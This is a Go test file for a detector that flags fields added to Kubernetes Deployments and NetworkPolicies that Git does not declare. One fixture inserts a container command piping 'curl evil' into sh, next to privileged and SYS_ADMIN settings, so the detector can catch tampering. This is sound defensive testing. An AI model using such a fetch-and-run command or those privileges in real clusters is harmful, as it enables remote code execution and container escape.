package compare

import (
	"reflect"
	"testing"

	networkingv1 "k8s.io/api/networking/v1"
)

// addedOld is a Deployment as the agent applied Git's previous revision.
const addedOld = `
metadata: {name: web, labels: {app: web}}
spec:
  replicas: 2
  template:
    metadata: {labels: {app: web}}
    spec:
      dnsPolicy: ClusterFirst
      containers:
      - name: web
        image: nginx:1.27
        imagePullPolicy: IfNotPresent
        terminationMessagePath: /dev/termination-log
`

// addedGit is Git's new revision: a securityContext for web, a new
// container, and annotations on the Pod template, none of which the stored
// object has yet.
const addedGit = `
metadata: {name: web, labels: {app: web}}
spec:
  replicas: 2
  template:
    metadata: {labels: {app: web}, annotations: {prometheus.io/scrape: "true"}}
    spec:
      containers:
      - name: web
        image: nginx:1.27
        securityContext: {runAsNonRoot: true}
      - name: metrics
        image: exporter:2
        ports: [{containerPort: 9100}]
`

// addedLive is addedGit as the API server makes it: the dry run of Git's
// manifest (Options.Defaults), and a person's identical apply of it.
const addedLive = `
metadata: {name: web, labels: {app: web}}
spec:
  replicas: 2
  template:
    metadata: {labels: {app: web}, annotations: {prometheus.io/scrape: "true"}}
    spec:
      dnsPolicy: ClusterFirst
      containers:
      - name: web
        image: nginx:1.27
        imagePullPolicy: IfNotPresent
        terminationMessagePath: /dev/termination-log
        securityContext: {runAsNonRoot: true}
      - name: metrics
        image: exporter:2
        imagePullPolicy: IfNotPresent
        terminationMessagePath: /dev/termination-log
        ports: [{containerPort: 9100, protocol: TCP}]
`

// npOld, npGit: Git's new revision of a NetworkPolicy adds an ingress
// rule, so the atomic list changes length and no element keeps its stored
// counterpart.
const (
	npOld = `spec: {podSelector: {matchLabels: {app: db}}, ingress: [{from: [{podSelector: {matchLabels: {app: web}}}]}]}`
	npGit = `spec: {podSelector: {matchLabels: {app: db}}, ingress: [{from: [{podSelector: {matchLabels: {app: web}}}]}, {from: [{podSelector: {matchLabels: {app: jobs}}}]}]}`
	// npGitPeers adds a peer to the one rule instead.
	npGitPeers = `spec: {podSelector: {matchLabels: {app: db}}, ingress: [{from: [{podSelector: {matchLabels: {app: web}}}, {podSelector: {matchLabels: {app: jobs}}}]}]}`
)

// TestCompareAddedSubtree: what an update adds below Git's declared fields,
// before the agent applies Git's new revision, may hold what Git declares
// and the API server's defaults for Git's manifest there, nothing else.
func TestCompareAddedSubtree(t *testing.T) {
	npSchema := SchemaForType(reflect.TypeOf(networkingv1.NetworkPolicy{}))
	ig := &Ignore{}
	ig.Add([]string{"spec", "template", "metadata", "annotations", "kubectl.kubernetes.io/restartedAt"}, false)
	deploy := func(name, obj, defaults string, want ...string) compareCase {
		return compareCase{name: name, schema: deploySchema, declared: addedGit, old: addedOld, obj: obj, defaults: defaults, strict: true, strictLists: true, ignore: ig, want: want}
	}
	secCtx := replace(addedLive, "securityContext: {runAsNonRoot: true}",
		"securityContext: {runAsNonRoot: true, allowPrivilegeEscalation: true, capabilities: {add: [SYS_ADMIN]}}")
	command := replace(addedLive, "      - name: metrics\n", "      - name: metrics\n        command: [sh, -c, 'curl evil | sh']\n        securityContext: {privileged: true}\n")
	annotated := replace(addedLive, `annotations: {prometheus.io/scrape: "true"}`, `annotations: {prometheus.io/scrape: "true", sidecar.istio.io/inject: "false"}`)
	tests := []compareCase{
		deploy("Git's new revision as the API server makes it", addedLive, addedLive),
		deploy("Git's new revision before the defaults are known", addedLive, "",
			"spec.template.spec.containers[name=metrics].imagePullPolicy Unproven",
			"spec.template.spec.containers[name=metrics].ports[containerPort=9100].protocol Unproven",
			"spec.template.spec.containers[name=metrics].terminationMessagePath Unproven"),
		deploy("privileges beside Git's runAsNonRoot", secCtx, addedLive,
			"spec.template.spec.containers[name=web].securityContext.allowPrivilegeEscalation Undeclared added",
			"spec.template.spec.containers[name=web].securityContext.capabilities Undeclared added"),
		deploy("privileges beside Git's runAsNonRoot, defaults unknown", secCtx, "",
			"spec.template.spec.containers[name=metrics].imagePullPolicy Unproven",
			"spec.template.spec.containers[name=metrics].ports[containerPort=9100].protocol Unproven",
			"spec.template.spec.containers[name=metrics].terminationMessagePath Unproven",
			"spec.template.spec.containers[name=web].securityContext.allowPrivilegeEscalation Unproven",
			"spec.template.spec.containers[name=web].securityContext.capabilities Unproven"),
		deploy("a command and privileged in Git's new container", command, addedLive,
			"spec.template.spec.containers[name=metrics].command Undeclared added",
			"spec.template.spec.containers[name=metrics].securityContext Undeclared added"),
		deploy("an annotation beside Git's new Pod template annotations", annotated, addedLive,
			`spec.template.metadata.annotations["sidecar.istio.io/inject"] Undeclared added`),
		deploy("a default changed in Git's new container", replace(addedLive, "image: exporter:2\n        imagePullPolicy: IfNotPresent", "image: exporter:2\n        imagePullPolicy: Never"), addedLive,
			"spec.template.spec.containers[name=metrics].imagePullPolicy Undeclared added"),
		deploy("a hostPort in Git's new port", replace(addedLive, "{containerPort: 9100, protocol: TCP}", "{containerPort: 9100, protocol: TCP, hostPort: 9100}"), addedLive,
			"spec.template.spec.containers[name=metrics].ports[containerPort=9100].hostPort Undeclared added"),
		deploy("a port beside Git's new one", replace(addedLive, "{containerPort: 9100, protocol: TCP}", "{containerPort: 9100, protocol: TCP}, {containerPort: 22, protocol: TCP}"), addedLive,
			"spec.template.spec.containers[name=metrics].ports[containerPort=22] Undeclared added"),
		deploy("a default the request lacks adds nothing", replace(addedLive, "image: exporter:2\n        imagePullPolicy: IfNotPresent\n", "image: exporter:2\n"), addedLive),
		deploy("kubectl rollout restart in Git's new annotations", replace(addedLive, `prometheus.io/scrape: "true"}`, `prometheus.io/scrape: "true", kubectl.kubernetes.io/restartedAt: "2025-01-01T00:00:00Z"}`), addedLive),
		{name: "Git's runAsNonRoot alone needs no defaults", schema: deploySchema, strict: true, strictLists: true,
			declared: "spec: {template: {spec: {containers: [{name: web, image: nginx, securityContext: {runAsNonRoot: true}}]}}}",
			old:      "spec: {template: {spec: {containers: [{name: web, image: nginx, imagePullPolicy: Always}]}}}",
			obj:      "spec: {template: {spec: {containers: [{name: web, image: nginx, imagePullPolicy: Always, securityContext: {runAsNonRoot: true}}]}}}"},
		{name: "declared mode leaves undeclared fields free", schema: deploySchema, declared: addedGit, old: addedOld, obj: secCtx},
		{name: "NetworkPolicy rule Git adds, as Git has it", schema: npSchema, strict: true, declared: npGit, old: npOld, obj: npGit},
		{name: "namespaceSelector added to every peer as Git adds a rule", schema: npSchema, strict: true, declared: npGit, old: npOld, defaults: npGit,
			obj:  `spec: {podSelector: {matchLabels: {app: db}}, ingress: [{from: [{podSelector: {matchLabels: {app: web}}, namespaceSelector: {}}]}, {from: [{podSelector: {matchLabels: {app: jobs}}, namespaceSelector: {}}]}]}`,
			want: []string{"spec.ingress[0].from[0].namespaceSelector Undeclared added", "spec.ingress[1].from[0].namespaceSelector Undeclared added"}},
		{name: "namespaceSelector added to every peer as Git adds a peer", schema: npSchema, strict: true, declared: npGitPeers, old: npOld, defaults: npGitPeers,
			obj:  `spec: {podSelector: {matchLabels: {app: db}}, ingress: [{from: [{podSelector: {matchLabels: {app: web}}, namespaceSelector: {}}, {podSelector: {matchLabels: {app: jobs}}, namespaceSelector: {}}]}]}`,
			want: []string{"spec.ingress[0].from[0].namespaceSelector Undeclared added", "spec.ingress[0].from[1].namespaceSelector Undeclared added"}},
		{name: "namespaceSelector added as Git adds a peer, defaults unknown", schema: npSchema, strict: true, declared: npGitPeers, old: npOld,
			obj:  `spec: {podSelector: {matchLabels: {app: db}}, ingress: [{from: [{podSelector: {matchLabels: {app: web}}, namespaceSelector: {}}, {podSelector: {matchLabels: {app: jobs}}}]}]}`,
			want: []string{"spec.ingress[0].from[0].namespaceSelector Unproven"}},
		{name: "namespaceSelector added to a peer of a list that keeps its length", schema: npSchema, strict: true, declared: npOld, old: npOld,
			obj:  `spec: {podSelector: {matchLabels: {app: db}}, ingress: [{from: [{podSelector: {matchLabels: {app: web}}, namespaceSelector: {}}]}]}`,
			want: []string{"spec.ingress[0].from[0].namespaceSelector Undeclared"}},
	}
	runCompareCases(t, tests)
}

// TestCompareAddedSubtreeElementsByKey: the default of an element of a
// keyed list is found by its key and ordinal, not its position.
func TestCompareAddedSubtreeElementsByKey(t *testing.T) {
	runCompareCases(t, []compareCase{
		{name: "containers in another order than the dry run's", schema: deploySchema, declared: addedGit, old: addedOld, strict: true,
			obj:      addedLive,
			defaults: replace(replace(addedLive, "      - name: web\n", "      - name: tmp\n"), "      - name: metrics\n", "      - name: web\n") + "      - name: metrics\n        image: exporter:2\n        imagePullPolicy: IfNotPresent\n        terminationMessagePath: /dev/termination-log\n        ports: [{containerPort: 9100, protocol: TCP}]\n"},
		{name: "two new ports sharing a merge key, each held to its own default", schema: deploySchema, strict: true,
			declared: dnsGit, old: dnsOld, defaults: dnsLive, obj: dnsLive},
		{name: "hostPort on the second of two new ports sharing a merge key", schema: deploySchema, strict: true,
			declared: dnsGit, old: dnsOld, defaults: dnsLive,
			obj:  replace(dnsLive, "{containerPort: 53, protocol: TCP}", "{containerPort: 53, protocol: TCP, hostPort: 53}"),
			want: []string{"spec.template.spec.containers[name=dns].ports[containerPort=53].hostPort Undeclared added"}},
	})
}

// A container's ports merge by containerPort alone, so DNS over UDP and
// TCP share a key: Git's new revision adds both, the second with the
// default protocol.
const (
	dnsOld  = "spec: {template: {spec: {containers: [{name: dns, image: coredns}]}}}"
	dnsGit  = "spec: {template: {spec: {containers: [{name: dns, image: coredns, ports: [{containerPort: 53, protocol: UDP}, {containerPort: 53}]}]}}}"
	dnsLive = "spec: {template: {spec: {containers: [{name: dns, image: coredns, ports: [{containerPort: 53, protocol: UDP}, {containerPort: 53, protocol: TCP}]}]}}}"
)
